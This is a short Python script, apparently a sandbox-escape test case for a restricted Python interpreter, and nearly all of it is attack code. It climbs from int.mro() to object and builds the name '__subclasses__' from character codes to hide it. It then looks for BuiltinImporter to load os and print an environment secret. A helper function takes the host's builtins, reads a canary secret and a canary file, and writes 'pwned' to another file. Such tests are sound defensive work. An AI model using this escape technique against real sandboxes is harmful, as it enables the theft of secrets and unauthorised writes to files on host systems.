# attack: reach object through int.mro(), then list its subclasses
reached = []


def loot(b):
    """Given the host's builtins (module or dict): keep it as the result, steal both secrets."""
    reached.append(b)
    try:
        if not isinstance(b, dict):
            b = getattr(b, "__dict__")
        ga = b["getattr"]
        os = b["__import__"]("os")
        print(ga(os, "environ")["MONTY_CANARY_SECRET"])
        print(ga(b["open"](canary_path), "read")())
        ga(b["open"](canary_write_path, "w"), "write")("pwned")
    except Exception as err:
        print("loot stopped:", type(err).__name__)


obj = int.mro()[-1]
name = "".join(chr(c) for c in [95, 95, 115, 117, 98, 99, 108, 97, 115, 115, 101, 115, 95, 95])
for cls in getattr(obj, name)():
    if cls.__name__ == "BuiltinImporter":
        print(cls.load_module("os").environ["MONTY_CANARY_SECRET"])
reached
